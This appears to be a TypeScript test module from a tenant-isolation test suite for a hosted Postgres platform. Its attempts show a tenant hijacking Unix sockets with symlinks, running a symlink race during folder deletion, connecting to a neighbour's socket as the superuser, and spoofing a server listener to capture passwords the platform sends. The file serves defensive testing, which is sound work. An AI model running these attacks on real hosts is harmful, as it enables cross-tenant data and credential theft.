import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attempt, NotApplicable, type Scene } from '../attempt.ts';
import { perl, quoted } from '../intruder.ts';
import type { Neighbour } from '../neighbour.ts';
import { anybody, leaked, moment } from '../plant.ts';

// Doors that lead to somebody else, and listeners where somebody else is expected.

const SECRETS = 'select secret from public.secrets';

function socketOf({ socketFolder, socketPort }: Neighbour): string {
  return join(socketFolder, `.s.PGSQL.${socketPort}`);
}

function ownSocket({ intruder }: Scene): string {
  return join(intruder.socketFolder, `.s.PGSQL.${intruder.port}`);
}

/** The platform's next session with this project must not be one with somebody else. */
function socketLink(whose: string, target: (at: Scene) => Neighbour): Attempt {
  return {
    name: `puts a link to the socket of ${whose} in the place of its own`,
    during: 'session',
    alsoDuring: ['backup', 'download', 'upgrade', 'verify', 'resize', 'pause', 'archive'],
    alone: true,
    withoutRoot: 'not separated',
    plant: async (at) => {
      const other = socketOf(target(at));
      // Whatever number the platform asks for: the folder, and the name that its own driver would look for.
      await at.intruder.shell(
        `rm -f ${quoted(ownSocket(at))}; ln -s ${quoted(other)} ${quoted(ownSocket(at))}; rm -f ${quoted(`${ownSocket(at)}.lock`)}`,
      );
    },
    afterwards: async (at) => {
      const rows = await at.host.platform.session(at.ref, SECRETS).catch(() => []);
      return leaked(at, JSON.stringify(rows));
    },
  };
}

/** Perl that connects to a Unix socket as the superuser and prints what the server says first. */
function knock(socket: string): string {
  return perl(`use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un(q(${socket}))) or die "refused: $!";
    my $b = pack("N", 196608)."user\\0supabase_admin\\0database\\0postgres\\0\\0"; syswrite($s, pack("N", length($b)+4).$b);
    sysread($s, my $r, 999); print "answered ", $r; `);
}

function reaches(whose: string, target: (at: Scene) => Neighbour): Attempt {
  return {
    name: `connects to the private socket of ${whose}`,
    during: 'running',
    withoutRoot: 'not separated',
    afterwards: async (at) => {
      const said = await at.intruder.shell(knock(socketOf(target(at))));
      return said.includes('answered R') ? ['the server lets it in'] : [];
    },
  };
}

/** Made by the server below when it listens or cannot. */
const triedFile = (at: Scene) => join(at.open, `${at.ref}-tried`);

/** A server of the intruder's own in the place of the project's, which wants to know what the platform knows. */
const ASKING = (socket: string, at: Scene) =>
  perl(`use Socket; unlink q(${socket}); socket(my $l, PF_UNIX, SOCK_STREAM, 0); my $listens = bind($l, pack_sockaddr_un(q(${socket}))) && listen($l, 9);
    open(my $t, ">", q(${triedFile(at)})); close $t; $listens or die; while (accept(my $c, $l)) { sysread($c, my $b, 9999); syswrite($c, "R".pack("NN", 8, 3));
    sysread($c, my $a, 9999); open(my $f, ">>", q(${join(at.open, `${at.ref}-heard`)})); print $f $b, $a; close $f; close $c; }`);

export const SOCKET_ATTEMPTS: readonly Attempt[] = [
  socketLink('the neighbour', (at) => at.neighbour),
  socketLink("the platform's own cluster", (at) => at.platform),
  {
    name: 'puts a link to a folder of sockets in the place of its own folder',
    during: 'resume',
    alsoDuring: ['resize', 'recover', 'delete', 'pause', 'restore'],
    alone: true,
    plant: async (at) => {
      const { socketFolder } = at.intruder;
      await at.intruder.shell(
        `cd ${quoted(socketFolder)}; for n in $(seq 50); do ln -s ${quoted(at.canary.folder)} link$n; done; ln -s ${quoted(at.canary.folder)} .s.PGSQL.1; rmdir ${quoted(socketFolder)}; ln -sfn ${quoted(at.neighbour.socketFolder)} ${quoted(socketFolder)}`,
      );
    },
    afterwards: async (at) => {
      const rows = await at.host.platform.session(at.ref, SECRETS).catch(() => []);
      return leaked(at, JSON.stringify(rows));
    },
  },
  {
    name: 'swaps folders in its socket folder while that is deleted',
    during: 'pause',
    alsoDuring: ['resume', 'delete', 'resize', 'recover'],
    alone: true,
    plant: async (at) => {
      await at.intruder.shell(
        `cd ${quoted(at.intruder.socketFolder)}; for i in $(seq 300); do mkdir -p d$i; touch d$i/1259 d$i/shadow d$i/PG_VERSION; done`,
      );
      const program = perl(
        `open(my $d, "<", q(${at.intruder.socketFolder})) or exit; my $p = "/proc/self/fd/".fileno($d)."/"; while (1) { for (1..300) { my $n = $p."d$_"; rename($n, "$n.k") if !-l $n; symlink(q(${at.canary.folder}), $n); if (-l $n) { unlink $n; rename("$n.k", $n); } } }`,
      );
      for (let n = 0; n < 2; n += 1) await at.intruder.spawn(program);
    },
  },
  {
    name: 'listens in the place of its own server and asks the platform for a password',
    during: 'session',
    alsoDuring: ['backup', 'download'],
    alone: true,
    withoutRoot: 'held',
    plant: async (at) => {
      await at.intruder.spawn(ASKING(ownSocket(at), at));
      for (let look = 0; look < 400 && !existsSync(triedFile(at)); look += 1) await moment(50);
    },
    afterwards: async (at) => {
      const path = join(at.open, `${at.ref}-heard`);
      let heard = '';
      try {
        heard = readFileSync(path, 'latin1');
      } catch {
        return []; // nobody came
      }
      // Its own start message names user and database; a password would be more than an empty one.
      const answer = /p\0\0\0(.)([^\0]*)\0/s.exec(heard);
      return [...leaked(at, heard), ...(answer?.[2] ? [`the platform answers ${answer[2]}`] : [])];
    },
  },
  reaches('the neighbour', (at) => at.neighbour),
  reaches("the platform's own cluster", (at) => at.platform),
  {
    name: "connects to the neighbour's TCP port as its superuser",
    during: 'running',
    afterwards: async (at) => {
      const said = await at.intruder.shell(
        perl(`use IO::Socket::INET; my $s = IO::Socket::INET->new("127.0.0.1:${at.neighbour.port}") or die "refused";
        my $b = pack("N", 196608)."user\\0supabase_admin\\0database\\0postgres\\0\\0"; syswrite($s, pack("N", length($b)+4).$b); sysread($s, my $r, 999); print "answered ", $r;`),
      );
      // Not even a question for the password: that user does not come in this way.
      return said.includes('answered R') ? [`the server asks ${said.slice(0, 40)}`] : [];
    },
  },
  {
    name: 'listens on the port of a paused neighbour before it resumes',
    during: 'running',
    alone: true,
    plant: async (at) => {
      const port = at.neighbour.port + 190;
      await at.host.driver.create({ ref: 'sleeper', kind: 'project', major: 17, port });
      at.onEnd(() => at.host.driver.remove('sleeper'));
      await at.intruder.spawn(
        perl(`use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => ${port}, Listen => 9, ReuseAddr => 1) or exit;
        while (my $c = $l->accept) { system(q(${at.tell})); close $c; }`),
      );
      await moment(200);
    },
    afterwards: async (at) => {
      const started = await at.host.driver
        .start('sleeper')
        .catch((error: unknown) => error as { code?: string });
      if ('code' in started)
        return started.code === 'port_in_use' ? anybody(at) : [`it fails with ${started.code}`];
      const [row] = await at.host.platform.session(
        'sleeper',
        `select current_setting('cluster_name') as name`,
      );
      return [...anybody(at), ...(row?.name === 'sleeper' ? [] : ['the platform talks to somebody else'])];
    },
  },
  {
    name: 'makes its own socket one that everybody may use',
    during: 'resize',
    alsoDuring: ['resume', 'recover'],
    plant: async (at) => {
      await at.intruder.shell(`chmod 777 ${quoted(at.intruder.socketFolder)} ${quoted(ownSocket(at))}`);
    },
    afterwards: async (at) => {
      if (!at.isRoot) throw new NotApplicable('everybody is the same user');
      const { statSync } = await import('node:fs');
      const { host } = await at.host.driver.address(at.ref);
      return (statSync(host).mode & 0o002) === 0 ? [] : ['others may write to the folder of the socket'];
    },
  },
];
